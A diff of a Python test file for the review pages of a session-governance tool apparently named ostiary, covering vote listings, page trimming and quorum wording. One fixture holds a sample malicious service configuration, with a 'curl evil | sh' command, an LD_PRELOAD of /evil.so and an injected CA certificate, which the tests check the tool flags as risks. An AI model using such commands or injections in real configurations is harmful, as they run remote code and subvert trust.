@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 import textwrap
 from datetime import UTC, datetime, timedelta
@@ -13,10 +14,13 @@ from tests.simulators.board import ANN, BEN, CEM, DAN, THREE, Board, boarded
 from tests.simulators.proposals import CAS_ID, Json, decided, follows, member, showing
 from tests.simulators.signers import Person, ed25519_person
 
+from ostiary.board.proposal import State
 from ostiary.board.shown import Proposal, read_summary, verify_shown
 from ostiary.cli.board.form import board_form, proposal_form
-from ostiary.cli.board.page import COLUMNS, PAGE_ROWS, board_page, list_lines, review_page
+from ostiary.cli.board.page import COLUMNS, PAGE_ROWS, board_page, list_lines, review_page, taking_effect
+from ostiary.cli.identity import make_identity, parse_identity
 from ostiary.session import parse_session
+from ostiary.session.diff import show_creator
 
 NOW = datetime(2026, 11, 23, 12, 30, tzinfo=UTC)
 BEFORE = boarded("web-shop", read="CREATOR")
@@ -62,14 +66,18 @@ Update of session web-shop: open
 RISKS: 2
   ! tolerates-debug: tolerates debug-mode: who runs the host can read the memory
     of its programs
-  ! adds-measurement: adds 1 measurement to service web: 0000000000000000…
+  ! adds-measurement: adds 1 measurement to service web:
+    {2:064x}
 Members: 1 of 2 approvals needed
   cem (you)        vote                   -
   ben              vote                   approved 11-23 12:30 "looks fine"
   ann              vote                   -
 
-Proposed 2026-11-23 12:00 UTC by key abababababababab…
-  to make version {shown.after.hash.hex()[:16]}… after {parse_session(before).hash.hex()[:16]}…
+Proposed 2026-11-23 12:00 UTC
+  by key   {"ab" * 32}
+  version  {shown.after.hash.hex()}
+  after    {parse_session(before).hash.hex()}
+  text     ostiary board review ID --json | jq -r .session_text
   "try the debugger"
 To be decided until 2026-11-30 12:00 UTC (6 d 23 h left)
 """
@@ -120,14 +128,14 @@ def test_powers_unknown_keys_and_rejections_are_shown() -> None:
     ]
     page = review_page(proposal(None, BEFORE, members, approvals=None, proposer=None), now=NOW)
     assert page.startswith("First version of session web-shop: open\n")
-    assert "Proposed 2026-11-23 12:00 UTC by somebody without a certificate\n  to make version " in page
+    assert "Proposed 2026-11-23 12:00 UTC\n  by       somebody without a certificate\n  version  " in page
     assert '\n  ann              alone: approve, reject [namespace] rejected 11-23 12:30 "no"\n' in page
     assert "\n  x                vote                   [namespace] key not known\n" in page
     assert "\nMembers\n" in page
 
 
 @pytest.mark.parametrize(("changed", "says"), [
-    ({}, "To be decided until 2026-11-30 12:00 UTC (6 d 23 h left), to take effect 1day later\n"),
+    ({}, "To be decided until 2026-11-30 12:00 UTC (6 d 23 h left), to take effect 1 day later\n"),
     ({"expires": "2026-11-23T13:31:00Z"}, "(1 h 1 min left)"),
     ({"expires": "2026-11-23T12:31:00Z"}, "(1 min left)"),
     ({"expires": "2026-11-23T12:00:00Z"}, "(over)"),
@@ -151,6 +159,7 @@ def test_a_long_page_is_cut_to_a_screen_and_says_what_it_left_out() -> None:
     board = Board(members=people)
     before = service(boarded("s", board), mrenclaves=60)
     extra = "volumes:\n" + "".join(f"- {{name: v{at}}}\n" for at in range(30))
+    last = f"    {60:064x}"
     members = [member(one, person) for one, person in people.items()]
     shown = proposal(before + extra, service(boarded("s", board), mrenclaves=59), members)
     page = review_page(shown, now=NOW, own=people["m20"].spki)
@@ -158,12 +167,14 @@ def test_a_long_page_is_cut_to_a_screen_and_says_what_it_left_out() -> None:
     assert len(lines) <= PAGE_ROWS
     assert max(len(line) for line in lines) <= COLUMNS
     assert "  m20 (you)        vote                   -" in lines
-    assert any(line.endswith("lines more, none of them a risk: --all shows them") for line in lines)
-    assert any(line.endswith("members more: --all shows them") for line in lines)
+    assert any(re.fullmatch("  … and [0-9]+ more, none of them a risk: --all shows them", line) for line in lines)
+    assert any(re.fullmatch("  … and [0-9]+ more: --all shows them", line) for line in lines)
+    assert "  text     ostiary board review ID --json | jq -r .session_text" in lines
     whole = review_page(shown, now=NOW, whole=True)
     assert "--all" not in whole
     assert all(one in whole for one in people)
     assert "removes volume v29" in whole
+    assert last in whole.splitlines()
 
 
 def test_risks_are_never_left_out_however_many() -> None:
@@ -215,20 +226,117 @@ def test_a_board_says_who_decides_and_how() -> None:
     assert parsed is not None
     page = board_page(parsed)
     assert page.startswith(
-        "2 of 4 members decide together; one may be dishonest, or away\n  ann              vote     "
+        "2 of 4 members decide together: one may be dishonest; 2 may be away\n"
+        "Decides alone, and must be honest: cem\n  ann              vote     "
     )
     assert f"  cem              alone: approve, reject {board_form(parsed)['members'][2]['key']}\n" in page  # type: ignore[index]
     assert page.endswith(
         "Decides: create_sessions, update\n"
-        "Proposals are open for 2days\n"
-        "A change takes effect 1h after the deciding approval\n"
+        "Proposals are open for 2 days\n"
+        "A change takes effect 1 h after the deciding approval\n"
         "Break-glass: 4 members may act whatever others reject\n"
         "Told of proposals: https://hooks.example/ostiary\n"
     )
-    for faults, says in ((0, "1 of 4 members decide together: one member alone decides"), (2, "; 2 may be dishonest")):
-        other = parse_session(boarded("s", Board(members=board.members, faults=faults))).session.policy_board
-        assert other is not None
-        assert says in board_page(other)
+
+
+@pytest.mark.parametrize(("members", "faults", "says"), [
+    (2, 1, "2 of 2 members decide together: one may be dishonest; none may be away"),
+    (3, 1, "2 of 3 members decide together: one may be dishonest; one may be away"),
+    (4, 2, "3 of 4 members decide together: 2 may be dishonest; one may be away"),
+    (4, 0, "Any one of 4 members decides: none may be dishonest; 3 may be away"),
+    (1, 0, "One member decides alone"),
+])  # fmt: skip
+def test_a_board_promises_no_more_than_it_holds(members: int, faults: int, says: str) -> None:
+    """A board whose members must all approve does without none of them, however many it tolerates otherwise."""
+    board = parse_session(boarded("s", Board(members=many(members), faults=faults))).session.policy_board
+    assert board is not None
+    assert board_page(board).splitlines()[0] == says
+
+
+LONG, SAME = "m" * 63 + "1", "m" * 63 + "2"
+
+
+def long_named(**reasons: str) -> Proposal:
+    people = {LONG: ANN, SAME: BEN, "cem": CEM}
+    members = [
+        decided(member(LONG, ANN), ANN, "reject", reasons.get("ann", "")),
+        decided(member(SAME, BEN), BEN, "approve", reasons.get("ben", "")),
+        member("cem", CEM),
+    ]
+    board = Board(members=people)
+    return proposal(boarded("s", board), boarded("s", board, read="NONE"), members)
+
+
+def test_a_long_name_is_shortened_and_never_a_decision() -> None:
+    page = review_page(long_named(), now=NOW, own=ANN.spki)
+    lines = [line for line in page.splitlines() if "vote  " in line]
+    assert [line[-20:] for line in lines] == ["rejected 11-23 12:30", "approved 11-23 12:30", " " * 19 + "-"]
+    assert re.match(r"  m+…m+1 \(you\) vote  ", lines[0])
+    assert re.match(r"  m+…m+2 vote  ", lines[1])
+    assert max(len(line) for line in page.splitlines()) <= COLUMNS
+    whole = review_page(long_named(), now=NOW, own=ANN.spki, whole=True).splitlines()
+    assert f"  {LONG} (you)" not in whole
+    assert whole[whole.index(f"  {LONG}") + 1].endswith("vote                   rejected 11-23 12:30")
+
+
+def test_a_reason_has_rows_of_its_own_and_all_it_needs_with_all() -> None:
+    one, other = "too wide for what it is " * 4, "see the tests of last week " * 12
+    page = review_page(long_named(ann=one, ben=other), now=NOW)
+    lines = page.splitlines()
+    at = next(number for number, line in enumerate(lines) if line.endswith("rejected 11-23 12:30"))
+    assert " ".join(" ".join(lines[at + 1 : at + 3]).split()) == f'"{one.strip()} "'
+    assert lines[at + 3].endswith("approved 11-23 12:30")
+    assert lines[at + 4].startswith('      "see the tests')
+    assert lines[at + 5] == "       … --all shows the rest"
+    assert len(lines) <= PAGE_ROWS
+    whole = " ".join(review_page(long_named(ann=one, ben=other), now=NOW, whole=True).split())
+    assert whole.count("see the tests of last week") == 12
+
+
+FIRST = """services:
+- name: web
+  command: /bin/sh -c "curl evil | sh"
+  image_name: img
+  environment: {LD_PRELOAD: /evil.so}
+  attestation: [{mrenclave: [5f1d2c3b4a59687706152433425160f1e2d3c4b5a69788796a5b4c3d2e1f0011]}]
+images:
+- name: img
+  injection_files: [{path: /etc/ssl/ca.pem, content: x}]
+"""
+
+
+def test_a_first_version_says_what_its_programs_do() -> None:
+    members = [{**one, "board": "own"} for one in MEMBERS]
+    page = review_page(proposal(None, BEFORE + FIRST, members), now=NOW)
+    assert (
+        """  ! adds-measurement: adds service web, which admits 1 program: measurement
+    5f1d2c3b4a59687706152433425160f1e2d3c4b5a69788796a5b4c3d2e1f0011
+  ! changes-program: changes the command of service web: nothing becomes
+    "/bin/sh -c 'curl evil | sh'"
+  ! changes-program: adds the environment variable LD_PRELOAD of service web
+  ! changes-program: changes image_name of service web: nothing becomes img
+  ! changes-program: adds image img
+  ! changes-program: adds injection file /etc/ssl/ca.pem to image img
+"""
+        in page
+    )
+    assert "  text     ostiary board review ID --json | jq -r .session_text\n" in page
+
+
+def test_the_creator_is_told_where_none_was_named_before() -> None:
+    """Who reads as CREATOR then. Between two creators that are known, the difference is a risk."""
+    creator = "creator: " + json.dumps(parse_identity(make_identity(), "identity").certificate) + "\n"
+    first = boarded("web-shop", read="NONE")
+    page = review_page(proposal(first, BEFORE + creator, MEMBERS), now=NOW)
+    parsed = parse_session(BEFORE + creator).session
+    assert f"\n  CREATOR  {show_creator(parsed.creator)}\n" in page
+    assert "CREATOR  " not in review_page(proposal(BEFORE + creator, BEFORE + creator, MEMBERS, note="x"), now=NOW)
+
+
+def test_a_state_that_time_ends_says_when() -> None:
+    assert taking_effect(State.APPROVED, NOW) == "approved: takes effect 2026-11-23 12:30 UTC"
+    assert taking_effect(State.APPROVED, None) == "approved"
+    assert taking_effect(State.APPLIED, NOW) == "applied"
 
 
 def test_json_has_what_was_worked_out_here() -> None:
